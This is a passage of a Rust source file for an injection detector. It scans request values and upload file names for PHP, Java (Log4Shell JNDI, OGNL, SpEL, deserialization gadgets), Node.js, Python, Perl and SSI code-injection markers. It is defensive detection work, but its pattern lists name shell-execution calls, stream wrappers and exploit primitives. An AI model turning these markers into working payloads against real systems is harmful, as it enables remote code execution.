//! Code and expression injection: PHP (open tags, superglobals, dangerous calls, variable
//! functions, serialized objects, stream wrappers), Java (Log4Shell `${jndi:…}` with nested
//! lookups, OGNL, EL/SpEL, dangerous classes and Commons-Collections gadgets, serialized
//! objects, Spring4Shell `class.module.classLoader`), Node.js (`child_process`, prototype
//! pollution), Perl `@{[ ]}`, Python dunder access and server-side includes.
//!
//! PHP stream wrappers (`php://filter`, `phar://`, `zip://`, `data://`, `expect://`) are
//! reported here, as code injection; `file://` is reported by the traversal checker.

use std::sync::LazyLock;

use aho_corasick::{AhoCorasick, AhoCorasickKind};

use super::{
    text::{
        around, find_ci, find_ci_from, is_ident, needle_mask, needle_masks, starts_with_ci,
        word_start, ByteSet,
    },
    Candidate,
};
use crate::detect::{
    finding::Finding,
    inputs::Source,
    rules::{self, Rule},
};

/// Calls that run code or commands, read or write files or decode hidden payloads; their
/// names are not English words, so a blank or comment before `(` is allowed.
const PHP_CALLS: &[&[u8]] = &[
    b"shell_exec",
    b"passthru",
    b"proc_open",
    b"pcntl_exec",
    b"assert_options",
    b"create_function",
    b"call_user_func",
    b"call_user_func_array",
    b"preg_replace",
    b"base64_decode",
    b"gzinflate",
    b"gzuncompress",
    b"gzdecode",
    b"str_rot13",
    b"bzdecompress",
    b"zlib_decode",
    b"include_once",
    b"require_once",
    b"file_get_contents",
    b"file_put_contents",
    b"fsockopen",
    b"pfsockopen",
    b"phpinfo",
    b"unserialize",
    b"curl_init",
    b"curl_exec",
    b"move_uploaded_file",
    b"highlight_file",
    b"show_source",
    b"php_uname",
    b"getenv",
    b"putenv",
    b"ini_set",
    b"dl",
    b"array_map",
    b"usort",
    b"register_shutdown_function",
    b"fwrite",
    b"fopen",
    b"readfile",
    b"symlink",
    b"chmod",
    b"posix_getpwuid",
    b"escapeshellcmd",
    b"escapeshellarg",
    b"popen",
    b"mb_ereg_replace",
    b"get_defined_functions",
    b"get_defined_vars",
    b"get_defined_constants",
    // From here on [`WEAK_CALLS`]: PHP-only built-ins payloads probe with or build strings
    // from (`chr(112).chr(104)`).
    b"print_r",
    b"var_dump",
    b"var_export",
    b"is_array",
    b"strip_tags",
    b"file_exists",
    b"filegroup",
    b"fileowner",
    b"strrev",
    b"intval",
    b"substr",
    b"chr",
    b"str_replace",
    b"preg_match",
];

/// Dangerous calls whose names are also words ("system (beta)"): `(` must follow directly.
const PHP_WORD_CALLS: &[&[u8]] = &[
    b"system", b"exec", b"eval", b"assert", b"include", b"require", b"file", b"unpack", b"printf",
];

/// Calls harmless by themselves that payloads use to probe or to build strings; people also
/// write them in questions and pasted code ("why does print_r($a) show…"). They count only
/// where code starts (see [`code_context`]).
const WEAK_CALLS: &[&[u8]] = &[
    b"print_r",
    b"var_dump",
    b"var_export",
    b"is_array",
    b"strip_tags",
    b"file_exists",
    b"filegroup",
    b"fileowner",
    b"strrev",
    b"intval",
    b"substr",
    b"chr",
    b"str_replace",
    b"preg_match",
    b"file",
    b"unpack",
    b"printf",
];

/// Whether code at `p` starts a value or follows what ends a string or statement (`'`, `;`,
/// `|`, `=`…): where an injected expression sits. After a word it is prose quoting code.
fn code_context(b: &[u8], p: usize) -> bool {
    b[..p].trim_ascii_end().last().is_none_or(|&x| {
        matches!(
            x,
            b';' | b'\''
                | b'"'
                | b'`'
                | b')'
                | b'|'
                | b'&'
                | b'='
                | b'{'
                | b'<'
                | b'>'
                | b'.'
                | b'@'
                | b'!'
                | b'['
                | b'}'
                | b'/'
        )
    })
}

/// Java packages whose classes payloads reach for (exceptions and errors excluded: stack
/// traces name them legitimately).
const JAVA_PACKAGES: &[&[u8]] = &[
    b"java.lang.",
    b"java.io.",
    b"java.net.",
    b"java.nio.",
    b"java.beans.",
    b"java.rmi.",
    b"javax.script.",
    b"javax.naming.",
    b"javax.management.",
    b"sun.misc.",
    b"com.sun.",
    b"org.apache.commons.collections",
    b"org.codehaus.groovy.",
    b"com.opensymphony.xwork2",
    b"org.omg.",
    b"bsh.",
    b"org.apache.xalan",
    b"org.mozilla.javascript",
];

/// Commons-Collections / Groovy gadget class names.
const GADGETS: &[&[u8]] = &[
    b"invokertransformer",
    b"chainedtransformer",
    b"constanttransformer",
    b"instantiatetransformer",
    b"instantiatefactory",
    b"clonetransformer",
    b"forclosure",
    b"whileclosure",
    b"prototypeclonefactory",
    b"prototypeserializationfactory",
    b"templatesimpl",
    b"methodclosure",
    b"convertedclosure",
    b"lazymap",
    b"transformedmap",
];

/// A value's byte summary, and whether it may hold any needle of [`NEEDLE_LISTS`]: where it
/// holds none, no `first_of!` search nor the Node.js runtime checks can find anything.
struct Scan<'a> {
    bytes: &'a ByteSet,
    needles: bool,
}

impl<'a> Scan<'a> {
    /// With one pass of [`NEEDLE_GATE`] over `b`.
    fn of(b: &[u8], bytes: &'a ByteSet) -> Self {
        let needles = NEEDLE_GATE.as_ref().is_none_or(|ac| ac.is_match(b));
        Self { bytes, needles }
    }

    /// Without the pass: every needle may be there.
    fn unknown(bytes: &'a ByteSet) -> Self {
        Self {
            bytes,
            needles: true,
        }
    }
}

impl std::ops::Deref for Scan<'_> {
    type Target = ByteSet;

    fn deref(&self) -> &ByteSet {
        self.bytes
    }
}

/// One ASCII case-insensitive automaton over every needle of [`NEEDLE_LISTS`], telling
/// whether any occurs (as `find_ci` of each would: a case-sensitive marker found
/// case-sensitively is found here too). `None` only if building fails: then every value
/// is searched as before.
static NEEDLE_GATE: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| {
    AhoCorasick::builder()
        .ascii_case_insensitive(true)
        .kind(Some(AhoCorasickKind::DFA))
        .build(NEEDLE_LISTS.iter().flat_map(|l| l.iter()))
        .ok()
});

/// Whether every one of `needles` is in [`NEEDLE_LISTS`] (`first_of!`'s compile-time guard).
const fn all_listed(needles: &[&[u8]]) -> bool {
    let mut i = 0;
    while i < needles.len() {
        if !listed(needles[i]) {
            return false;
        }
        i += 1;
    }
    true
}

const fn listed(needle: &[u8]) -> bool {
    let mut l = 0;
    while l < NEEDLE_LISTS.len() {
        let mut n = 0;
        while n < NEEDLE_LISTS[l].len() {
            if same(NEEDLE_LISTS[l][n], needle) {
                return true;
            }
            n += 1;
        }
        l += 1;
    }
    false
}

const fn same(a: &[u8], b: &[u8]) -> bool {
    if a.len() != b.len() {
        return false;
    }
    let mut i = 0;
    while i < a.len() {
        if a[i] != b[i] {
            return false;
        }
        i += 1;
    }
    true
}

/// Every list searched with `first_of!`, and the Node.js runtime checks' needles.
const NEEDLE_LISTS: &[&[&[u8]]] = &[
    OGNL_NEEDLES,
    JAVA_EL_NEEDLES,
    SPRING_CLASSLOADER_NEEDLES,
    GADGETS,
    GADGET_COMPANIONS,
    PHP_WRAPPERS,
    PHP_BLOCK_TAGS,
    NODE_NEEDLES,
    NODE_BASE64_MARKERS,
    NODE_RUNTIME_NEEDLES,
    NODE_FLIGHT_NEEDLES,
    NODE_ESCAPE,
    DESERIALIZATION_NEEDLES,
    PHP_OPEN_TAG,
    PROTOTYPE_NEEDLES,
    PERL_NEEDLES,
    PYTHON_NEEDLES,
    RUBY_NEEDLES,
    SSI_NEEDLES,
];

/// The node-serialize marker in base64 (`_$$ND_FUNC$$_` at each alignment; case-sensitive).
const NODE_BASE64_MARKERS: &[&[u8]] =
    &[b"XyQkTkRfRlVOQyQk", b"kJE5EX0ZVTkMkJF", b"JCRORF9GVU5DJCR"];

/// JavaScript words people also write in prose and pasted code ([`node_runtime`]).
const NODE_RUNTIME_NEEDLES: &[&[u8]] = &[
    b"process.env",
    b"process[",
    b"require[",
    b"module.exports",
    b"new function(",
    b"new function (",
    b"console[",
    b"console.",
];

/// React Flight references walking to a constructor ([`node_runtime`]).
const NODE_FLIGHT_NEEDLES: &[&[u8]] = &[b":constructor", b":prototype"];

/// Serialized Java objects: hex, base64, base64 of gzip, base64 shifted by a byte
/// ([`deserialization`]; the base64 ones are searched case-sensitively).
const DESERIALIZATION_NEEDLES: &[&[u8]] = &[b"aced0005", b"rO0AB", b"s7QAF", b"ztAA"];

/// PHP's open tag ([`php_tag`]).
const PHP_OPEN_TAG: &[&[u8]] = &[b"<?"];

/// [`node_runtime`] reads `\u` escapes only where one is.
const NODE_ESCAPE: &[&[u8]] = &[b"\\u"];

// The needle lists of [`java`], [`php`] and [`other`], named for [`NEEDLE_LISTS`]; each
// rule's use tells what its list finds.

const OGNL_NEEDLES: &[&[u8]] = &[
    b"#_memberaccess",
    b"#context[",
    b"%{(#",
    b"@ognl.",
    b"ognlcontext",
    b"(#dm=",
    b"default_member_access",
    b"#application[",
    b"#request[",
    b"@java.lang.",
    b"xwork.methodaccessor",
];

const JAVA_EL_NEEDLES: &[&[u8]] = &[
    b"t(java.",
    b"t (java.",
    b".getruntime()",
    b"getclass().forname(",
    b"class.forname(",
    b"processbuilder",
    b"scriptenginemanager",
    b".getclassloader()",
];

const SPRING_CLASSLOADER_NEEDLES: &[&[u8]] = &[
    b"class.module.classloader",
    b"class.classloader",
    b".classloader.",
];

const GADGET_COMPANIONS: &[&[u8]] = &[b"runtime", b"java.", b"processbuilder", b"commons"];

const PHP_WRAPPERS: &[&[u8]] = &[
    b"php://",
    b"phar://",
    b"zip://",
    b"expect://",
    b"glob://",
    b"data://",
    b"compress.zlib://",
    b"compress.bzip2://",
    b"ssh2.shell://",
    b"ssh2.exec://",
    b"ssh2.tunnel://",
    b"ssh2.sftp://",
    b"ssh2.scp://",
    b"rar://",
    b"ogg://",
    b"data:text/plain",
    b"data:text/php",
    b"data:application/x-httpd-php",
];

const PHP_BLOCK_TAGS: &[&[u8]] = &[
    b"[php]", b"{php}", b"[/php]", b"{/php}", b"[\\php]", b"{\\php}",
];

const NODE_NEEDLES: &[&[u8]] = &[
    b"child_process",
    b"process.mainmodule",
    b"process.binding(",
    b"constructor._load(",
    b"constructor.constructor",
    b"require('child",
    b"require(\"child",
    // node-serialize and funcster revive functions from these markers (RCE on
    // deserialization); `eval(String.fromCharCode(` hides the code it runs.
    b"_$$nd_func$$_",
    b"__js_function",
    b"eval(string.fromcharcode",
];

const PROTOTYPE_NEEDLES: &[&[u8]] = &[
    b"__proto__",
    b"constructor.prototype",
    b"constructor[prototype]",
    b"[constructor][prototype]",
];

const PERL_NEEDLES: &[&[u8]] = &[b"@{["];

const PYTHON_NEEDLES: &[&[u8]] = &[
    b"__import__(",
    b"__builtins__",
    b"__globals__",
    b"__subclasses__(",
    b"os.popen(",
    b"os.system(",
];

const RUBY_NEEDLES: &[&[u8]] = &[
    b"process.spawn(",
    b"kernel.exec",
    b"io.popen(",
    b"kernel.system",
];

const SSI_NEEDLES: &[&[u8]] = &[b"<!--#exec", b"<!--#include"];

pub fn check(c: &Candidate<'_>, out: &mut Vec<Finding>) {
    if may_match(c.decoded.as_bytes(), &c.bytes) {
        check_ungated(c, out);
    }
}

/// Extensions PHP servers execute (Apache's default `php` handler patterns).
const PHP_EXTENSIONS: &[&str] = &["php", "phtml", "pht", "phar", "phps", "phpt", "pgif"];

/// Whether an upload's file name (a multipart `filename`, an `X-Filename` header) names a
/// PHP script: its last extension, after the trailing dots and blanks Windows and some
/// servers drop (`a.php.`, `a.php ...`), is one PHP executes.
fn php_script_name(c: &Candidate<'_>) -> bool {
    let upload_name = match c.input.source {
        Source::Form => c.input.name.ends_with(".filename"),
        // `X-Filename`, `X_Filename`, `X.Filename`, `X-File-Name`: servers differ in how
        // they map header names to variables, so every spelling reaches the same code.
        Source::Header => {
            let n: String = c
                .input
                .name
                .chars()
                .filter(|ch| !matches!(ch, '-' | '_' | '.'))
                .collect();
            matches!(&n[..], "xfilename" | "xuploadfilename")
        }
        _ => false,
    };
    if !upload_name {
        return false;
    }
    let name = c.decoded.trim_end_matches(['.', ' ', '\t']);
    let base = name.rsplit(['/', '\\']).next().unwrap_or(name);
    // `sess_<id>`: PHP's session file name (ids of 20+ of `[A-Za-z0-9,-]`); stored where the
    // sessions live, the upload plants a session of the attacker's making.
    let id = base
        .get(5..)
        .filter(|_| base[..5].eq_ignore_ascii_case("sess_"));
    if id.is_some_and(|id| {
        id.len() >= 20
            && id
                .bytes()
                .all(|x| x.is_ascii_alphanumeric() || x == b',' || x == b'-')
    }) {
        return true;
    }
    base.rsplit_once('.').is_some_and(|(stem, ext)| {
        // `photo. php`: some stacks trim the blank after the dot.
        let ext = ext.trim_start();
        // `php` and `php` + version digits (`php5`, `php907`).
        let versioned = ext.len() >= 3
            && ext[..3].eq_ignore_ascii_case("php")
            && ext[3..].bytes().all(|b| b.is_ascii_digit());
        !stem.trim().is_empty()
            && (versioned || PHP_EXTENSIONS.iter().any(|e| ext.eq_ignore_ascii_case(e)))
    })
}

/// `code.php_upload`: reported apart from the content checks (a file name holds no code).
pub fn check_upload(c: &Candidate<'_>, out: &mut Vec<Finding>) {
    if php_script_name(c) {
        out.push(Finding::new(
            &rules::CODE_PHP_UPLOAD,
            c.input.location(),
            around(c.decoded, 0),
        ));
    }
}

/// [`check`] without [`may_match`] (which must not change its verdicts).
pub(super) fn check_ungated(c: &Candidate<'_>, out: &mut Vec<Finding>) {
    let value = c.decoded;
    let b = value.as_bytes();
    if b.len() < 3 {
        return;
    }
    let s = &Scan::of(b, &c.bytes);
    let found = java(b, s).or_else(|| other(b, s)).or_else(|| php(b, s));
    if let Some((rule, p)) = found {
        out.push(Finding::new(rule, c.input.location(), around(value, p)));
    }
}

/// Needles of [`java`] made only of letters and digits: every other needle and rule needs
/// one of the bytes of [`may_match`]. (The gadget rule needs a [`GADGETS`] name too, but
/// a gadget alone is enough for this pre-check.)
const ALNUM_NEEDLES: &[&[u8]] = &[
    b"ognlcontext",
    b"processbuilder",
    b"scriptenginemanager",
    b"aced0005",
    b"ro0ab",
    b"s7qaf",
    b"ztaa",
    b"xyqktkrfrlvoqyqk",
    b"kje5ex0zvtkmkjf",
    b"jcrorf9gvu5djcr",
];

/// A necessary condition for every rule: JNDI lookups need `${`, OGNL `#`, `%`, `@`, `_` or
/// `.`, Java names and packages `.` or `(`, PHP tags `<`, `[` or `{`, wrappers and
/// serialized objects `:`, superglobals and variable calls `$`, calls `(`, and the rest
/// `_`, `.`, `(`, `[`, `@` or `<`; or one of [`ALNUM_NEEDLES`] or [`GADGETS`] (searched
/// case-insensitively, as the rules do, so the case-sensitive base64 forms pass too).
fn may_match(b: &[u8], s: &ByteSet) -> bool {
    const TRIGGERS: u128 = needle_mask(b"${#%@_.(<[:");
    const ALNUM_MASKS: [u128; ALNUM_NEEDLES.len()] = needle_masks(ALNUM_NEEDLES);
    const GADGET_MASKS: [u128; GADGETS.len()] = needle_masks(GADGETS);
    if s.has_any_mask(TRIGGERS) {
        return true;
    }
    // Most values hold the letters of none of them: one mask test each.
    let letters = |masks: &[u128]| masks.iter().any(|m| s.has_mask(*m));
    let s = &Scan::unknown(s);
    (letters(&ALNUM_MASKS) && first_of_masked(s, b, ALNUM_NEEDLES, &ALNUM_MASKS).is_some())
        || (letters(&GADGET_MASKS) && first_of_masked(s, b, GADGETS, &GADGET_MASKS).is_some())
}

type Hit = (&'static Rule, usize);

/// The first position of any of `needles` in `b` (whose bytes `s` summarises): needles
/// holding a byte the value lacks are not searched for. The reference for [`first_of!`].
#[cfg(test)]
fn first_of(s: &ByteSet, b: &[u8], needles: &[&[u8]]) -> Option<usize> {
    needles
        .iter()
        .filter(|n| s.has_all(n))
        .filter_map(|n| find_ci(b, n))
        .min()
}

/// `first_of` over needles whose byte masks are precomputed: one mask test per needle
/// instead of one byte-set lookup per needle byte.
fn first_of_masked(s: &Scan<'_>, b: &[u8], needles: &[&[u8]], masks: &[u128]) -> Option<usize> {
    if !s.needles {
        return None;
    }
    needles
        .iter()
        .zip(masks)
        .filter(|(_, m)| s.has_mask(**m))
        .filter_map(|(n, _)| find_ci(b, n))
        .min()
}

/// The first position of any of `needles` in `b` (whose bytes `s` summarises); needles
/// holding a byte the value lacks are not searched for (their byte masks are built at
/// compile time). Every needle must be in [`NEEDLE_LISTS`] (checked at compile time), or
/// the gate would hide it.
macro_rules! first_of {
    ($s:expr, $b:expr, $needles:expr $(,)?) => {{
        const NEEDLES: &[&[u8]] = $needles;
        const _: () = assert!(
            all_listed(NEEDLES),
            "a first_of! needle missing from NEEDLE_LISTS"
        );
        const MASKS: [u128; NEEDLES.len()] = needle_masks(NEEDLES);
        first_of_masked($s, $b, NEEDLES, &MASKS)
    }};
}

fn java(b: &[u8], s: &Scan<'_>) -> Option<Hit> {
    if b.contains(&b'$') && b.contains(&b'{') {
        if let Some(p) = jndi(b) {
            return Some((&rules::CODE_JNDI, p));
        }
    }
    if let Some(p) = first_of!(s, b, OGNL_NEEDLES) {
        return Some((&rules::CODE_OGNL, p));
    }
    if let Some(p) = first_of!(s, b, JAVA_EL_NEEDLES) {
        return Some((&rules::CODE_JAVA_EL, p));
    }
    if let Some(p) = first_of!(s, b, SPRING_CLASSLOADER_NEEDLES) {
        return Some((&rules::CODE_SPRING_CLASSLOADER, p));
    }
    if let Some(p) = deserialization(b, s) {
        return Some((&rules::CODE_JAVA_DESERIALIZATION, p));
    }
    if let Some(p) = java_class(b, s) {
        return Some((&rules::CODE_JAVA_CLASS, p));
    }
    if let Some(p) = first_of!(s, b, GADGETS) {
        if first_of!(s, b, GADGET_COMPANIONS).is_some() {
            return Some((&rules::CODE_JAVA_GADGET, p));
        }
    }
    None
}

/// `${jndi:ldap://…}` after resolving Log4j's nested lookups: `${lower:j}`, `${upper:N}`,
/// `${::-d}`, `${env:X:-i}`, `${date:'j'}`.
fn jndi(b: &[u8]) -> Option<usize> {
    let mut from = 0;
    while let Some(p) = find_ci_from(b, b"${", from) {
        from = p + 2;
        let mut budget = 4096;
        let (resolved, _) = resolve(&b[p + 2..], 0, &mut budget);
        let r = resolved.to_ascii_lowercase();
        if r.starts_with(b"jndi:") {
            let proto = &r[5..];
            for scheme in [
                "ldap", "ldaps", "rmi", "dns", "iiop", "corba", "nds", "nis", "http",
            ] {
                if proto.starts_with(scheme.as_bytes()) {
                    return Some(p);
                }
            }
        }
    }
    None
}

/// Resolves a lookup body up to its closing `}`; returns the text and bytes used.
fn resolve(b: &[u8], depth: usize, budget: &mut usize) -> (Vec<u8>, usize) {
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() && *budget > 0 {
        *budget -= 1;
        if b[i] == b'}' {
            return (lookup_value(&out), i + 1);
        }
        if b[i] == b'$' && b.get(i + 1) == Some(&b'{') && depth < 8 {
            let (inner, used) = resolve(&b[i + 2..], depth + 1, budget);
            out.extend_from_slice(&inner);
            i += 2 + used;
            continue;
        }
        out.push(b[i]);
        i += 1;
    }
    // Unclosed: the text so far (the outer lookup).
    (out, i)
}

/// What a nested lookup evaluates to: `lower:x` → `x`, `a:-x` → `x`, `date:'x'` → `x`.
fn lookup_value(body: &[u8]) -> Vec<u8> {
    if let Some(p) = body.windows(2).position(|w| w == b":-") {
        return body[p + 2..].to_vec();
    }
    for prefix in [&b"lower:"[..], b"upper:", b"date:"] {
        if starts_with_ci(body, prefix) {
            let v = &body[prefix.len()..];
            return v.iter().copied().filter(|&x| x != b'\'').collect();
        }
    }
    // The outermost lookup keeps its prefix (`jndi:…`).
    body.to_vec()
}

/// Java serialized objects: `aced0005` in hex or base64 at each of the three alignments.
fn deserialization(b: &[u8], s: &Scan<'_>) -> Option<usize> {
    let [hex, base64, base64_gzip, base64_shifted] = DESERIALIZATION_NEEDLES else {
        return None;
    };
    if !s.needles {
        return None;
    }
    if let Some(p) = find_ci(b, hex) {
        return Some(p);
    }
    let find = |n: &[u8]| find_cased(b, s, n);
    if let Some(p) = find(base64).or_else(|| find(base64_gzip)) {
        return Some(p);
    }
    let p = find(base64_shifted)?;
    (p > 0 && matches!(b[p - 1], b'K' | b'a' | b'q' | b'6')).then(|| p - 1)
}

/// The first position of the case-sensitive `needle` in `b` (whose bytes `s` summarises,
/// case-folded): a value lacking one of its letters is not searched, which saves building a
/// searcher per call (most values hold few of a base64 marker's letters).
fn find_cased(b: &[u8], s: &ByteSet, needle: &[u8]) -> Option<usize> {
    if !s.has_all(needle) {
        return None;
    }
    memchr::memmem::find(b, needle)
}

fn java_class(b: &[u8], s: &ByteSet) -> Option<usize> {
    const MASKS: [u128; JAVA_PACKAGES.len()] = needle_masks(JAVA_PACKAGES);
    for (pkg, mask) in JAVA_PACKAGES.iter().zip(&MASKS) {
        if !s.has_mask(*mask) {
            continue;
        }
        let mut from = 0;
        while let Some(p) = find_ci_from(b, pkg, from) {
            from = p + 1;
            if p > 0 && (is_ident(b[p - 1]) || b[p - 1] == b'.') {
                continue;
            }
            let end = b[p..]
                .iter()
                .position(|&x| !(is_ident(x) || x == b'.' || x == b'$'))
                .map_or(b.len(), |e| p + e);
            let name = b[p..end].to_ascii_lowercase();
            if name.ends_with(b"exception") || name.ends_with(b"error") {
                continue;
            }
            return Some(p);
        }
    }
    None
}

fn php(b: &[u8], s: &Scan<'_>) -> Option<Hit> {
    if let Some(p) = php_tag(b, s) {
        return Some((&rules::CODE_PHP, p));
    }
    if s.has_mask(const { needle_mask(b"data:,") }) {
        if let Some(p) = data_uri(b) {
            return Some((&rules::CODE_DATA_URI, p));
        }
    }
    if let Some(p) = first_of!(s, b, PHP_WRAPPERS) {
        return Some((&rules::CODE_PHP_WRAPPER, p));
    }
    if b.contains(&b'$') {
        for g in [
            &b"$_get"[..],
            b"$_post",
            b"$_request",
            b"$_server",
            b"$_cookie",
            b"$_files",
            b"$_env",
            b"$_session",
            b"$globals",
        ] {
            if let Some(p) = find_ci(b, g) {
                if b.get(p + g.len()).is_none_or(|x| !is_ident(*x)) {
                    return Some((&rules::CODE_PHP, p));
                }
            }
        }
        if let Some(p) = variable_call(b).or_else(|| variable_variable(b)) {
            return Some((&rules::CODE_PHP, p));
        }
    }
    if b.contains(&b'(') {
        if let Some(p) = php_call(b, s).or_else(|| dynamic_call(b)) {
            return Some((&rules::CODE_PHP, p));
        }
    }
    // `O:8:"…":{`: a colon at least.
    if let Some(p) = s.has(b':').then(|| serialized_object(b)).flatten() {
        return Some((&rules::CODE_PHP_OBJECT, p));
    }
    None
}

/// Base64 characters decoded per `data:` URI: a dropper fits in far fewer.
const MAX_DATA_URI_BASE64: usize = 4096;

/// `data:[media type][;base64],payload` (also `data://`), which PHP's `include` and
/// `file_get_contents` read as a file: reported when the payload, base64-decoded when marked
/// so, is PHP code (an open tag). Images and other data URIs decode to bytes that hold no
/// `<?php`.
fn data_uri(b: &[u8]) -> Option<usize> {
    let mut from = 0;
    while let Some(p) = find_ci_from(b, b"data:", from) {
        from = p + 5;
        if p > 0 && is_ident(b[p - 1]) {
            continue;
        }
        let rest = &b[p + 5..];
        let rest = rest.strip_prefix(b"//").unwrap_or(rest);
        let Some(comma) = rest.iter().take(128).position(|&x| x == b',') else {
            continue;
        };
        let media = &rest[..comma];
        if media.iter().any(|x| x.is_ascii_whitespace() || *x == b'"') {
            continue;
        }
        let payload = &rest[comma + 1..];
        let decoded;
        let content = if media.to_ascii_lowercase().ends_with(b";base64") {
            decoded = decode_base64_prefix(payload);
            &decoded[..]
        } else {
            payload
        };
        if php_tag(content, &Scan::unknown(&ByteSet::of(content))).is_some() {
            return Some(p);
        }
    }
    None
}

/// The leading run of base64 text decoded, at most [`MAX_DATA_URI_BASE64`] characters; a
/// blank inside the run stands for a `+` that form decoding turned into a space, and the
/// URL-safe alphabet is accepted. Empty when the run does not decode.
fn decode_base64_prefix(payload: &[u8]) -> Vec<u8> {
    use base64::Engine as _;
    let mut text: Vec<u8> = payload
        .iter()
        .take(MAX_DATA_URI_BASE64)
        .take_while(|x| x.is_ascii_alphanumeric() || matches!(x, b'+' | b'/' | b'-' | b'_' | b' '))
        .map(|&x| match x {
            b' ' | b'-' => b'+',
            b'_' => b'/',
            x => x,
        })
        .collect();
    let engine = base64::engine::general_purpose::STANDARD_NO_PAD;
    if let Ok(out) = engine.decode(&text) {
        return out;
    }
    // An unpadded tail with stray bits: the whole quads are enough.
    text.truncate(text.len() / 4 * 4);
    engine.decode(&text).unwrap_or_default()
}

/// `<?php`, `<?=`, `<? …` (not `<?xml`), and BBCode-style `[php]` / `{php}` blocks.
fn php_tag(b: &[u8], s: &Scan<'_>) -> Option<usize> {
    // `<?` is listed: without any needle there is no tag.
    if !s.needles {
        return None;
    }
    let mut from = 0;
    while let Some(p) = find_ci_from(b, PHP_OPEN_TAG[0], from) {
        from = p + 2;
        let rest = &b[p + 2..];
        // `test<?`: an open tag ending the value, its code sent in the next field (log
        // poisoning split across parameters).
        if starts_with_ci(rest, b"php") || rest.first() == Some(&b'=') || rest.is_empty() {
            return Some(p);
        }
        if starts_with_ci(rest, b"xml") {
            if fake_xml_declaration(&rest[3..]) {
                return Some(p);
            }
            continue;
        }
        // `<? php`, `<?\tphp`, `<?\nphp`: parsers that skip the blank still see the tag.
        let after_blank = rest.trim_ascii_start();
        if after_blank.len() < rest.len()
            && starts_with_ci(after_blank, b"php")
            && after_blank
                .get(3)
                .is_none_or(|x| x.is_ascii_whitespace() || !is_ident(*x))
        {
            return Some(p);
        }
        // `<? echo …`, `<? $x…`, `<? f(…`: short tags with PHP after them (not `<?xml`).
        let t = rest.trim_ascii_start();
        let ident = t.iter().take_while(|x| is_ident(**x)).count();
        let keyword = [
            &b"echo"[..],
            b"print",
            b"system",
            b"eval",
            b"include",
            b"require",
            b"exec",
            b"passthru",
            b"phpinfo",
            b"if",
            b"foreach",
        ]
        .iter()
        .any(|k| t[..ident].eq_ignore_ascii_case(k));
        if rest.first().is_some_and(u8::is_ascii_whitespace)
            && (t.first() == Some(&b'$')
                || keyword
                || (ident > 0 && skip_space_comments(&t[ident..]).first() == Some(&b'(')))
        {
            return Some(p);
        }
    }
    first_of!(s, b, PHP_BLOCK_TAGS)
}

/// Whether what follows `<?xml` makes it a PHP short tag rather than an XML declaration or
/// processing instruction: a declaration continues with blanks and a pseudo-attribute name
/// (`<?xml version=`), a PI target with more name characters (`<?xml-stylesheet`); `<?xml:`,
/// `<?xml (`, `<?xml :echo` are none of those, and PHP runs what follows `<?`.
fn fake_xml_declaration(after: &[u8]) -> bool {
    let t = after.trim_ascii_start();
    let Some(&first) = t.first() else {
        return false;
    };
    if t.len() < after.len() {
        return !first.is_ascii_alphabetic();
    }
    !(is_ident(first) || matches!(first, b'-' | b'.' | b'?'))
}

/// A dangerous function name followed by `(`.
fn php_call(b: &[u8], s: &ByteSet) -> Option<usize> {
    const CALL_MASKS: [u128; PHP_CALLS.len()] = needle_masks(PHP_CALLS);
    const WORD_MASKS: [u128; PHP_WORD_CALLS.len()] = needle_masks(PHP_WORD_CALLS);
    let masks = CALL_MASKS.iter().chain(&WORD_MASKS);
    for (name, mask) in PHP_CALLS.iter().chain(PHP_WORD_CALLS).zip(masks) {
        if !s.has_mask(*mask) {
            continue;
        }
        let loose = PHP_CALLS.contains(name);
        let mut from = 0;
        while let Some(p) = find_ci_from(b, name, from) {
            from = p + 1;
            // Long names that are no words (`fsockopen`, `call_user_func`) count glued to
            // other letters too (`FOOgzinflate(`): PHP's parser splits nothing there, but
            // such values are payload generators' padding.
            let glued = loose && name.len() >= 8 && p > 0 && b[p - 1].is_ascii_alphabetic();
            if !(word_start(b, p) || glued) || (p > 0 && matches!(b[p - 1], b'.' | b'-' | b'>')) {
                continue;
            }
            let after = &b[p + name.len()..];
            let spaced = skip_space_comments(after);
            // Word-like names (`exec`, `system`) need `(` at once or after a gap no prose
            // has: a comment, a tab or line break, several blanks (`exec/**/(`, `exec\t(`);
            // "the system (beta)" has one blank.
            let rest = if loose || &after[..after.len() - spaced.len()] != b" " {
                spaced
            } else {
                after
            };
            // `putenv(3)`: a manual page reference; `/eval(` at the very end calls nothing.
            let man_ref = rest.len() >= 3 && rest[1].is_ascii_digit() && rest[2] == b')';
            // "the file(s)": a plural in prose.
            let plural = !loose && (rest.starts_with(b"(s)") || rest.starts_with(b"(es)"));
            let dangling = !loose && rest.len() == 1;
            let weak = WEAK_CALLS.contains(name) && !code_context(b, p);
            if rest.first() == Some(&b'(') && !man_ref && !dangling && !plural && !weak {
                return Some(p);
            }
        }
    }
    // The POSIX extension (`posix_getegid()`, `posix_kill(`, `posix_setuid(`): process and
    // account calls no web input names.
    let mut from = 0;
    while let Some(p) = find_ci_from(b, b"posix_", from) {
        from = p + 6;
        let ident = b[from..].iter().take_while(|x| is_ident(**x)).count();
        if word_start(b, p)
            && ident > 0
            && skip_space_comments(&b[from + ident..]).first() == Some(&b'(')
        {
            return Some(p);
        }
    }
    None
}

/// Whether `name` (lower case, blanks and escapes removed) is one of the dangerous calls.
fn dangerous_name(name: &[u8]) -> bool {
    !name.is_empty()
        && PHP_CALLS
            .iter()
            .chain(PHP_WORD_CALLS)
            .any(|n| n.eq_ignore_ascii_case(name))
}

/// What follows a callee before its argument list may hold: closing brackets, subscripts
/// (`[0]`, `{0}`), blanks and comments. The rest of the value after them.
fn skip_callee_tail(mut b: &[u8]) -> &[u8] {
    for _ in 0..8 {
        b = skip_space_comments(b);
        match b.first() {
            Some(b')' | b']' | b'}') => b = &b[1..],
            Some(&open @ (b'[' | b'{')) => {
                let close = if open == b'[' { b']' } else { b'}' };
                match b.iter().take(64).position(|&x| x == close) {
                    Some(e) if e > 1 => b = &b[e + 1..],
                    _ => return b,
                }
            }
            _ => return b,
        }
    }
    b
}

/// A dangerous function reached without writing its name as a plain call: as a string
/// (`"system"(…)`, `'sys'.'tem'(…)`, `"\x73ystem"(…)`), or wrapped in brackets
/// (`(system)(…)`, `[system][0](…)`, `('system')(…)`). PHP calls a string or an array
/// element holding a function name; the argument list must follow the callee.
fn dynamic_call(b: &[u8]) -> Option<usize> {
    let mut i = 0;
    let mut budget = 64;
    while i < b.len() && budget > 0 {
        let x = b[i];
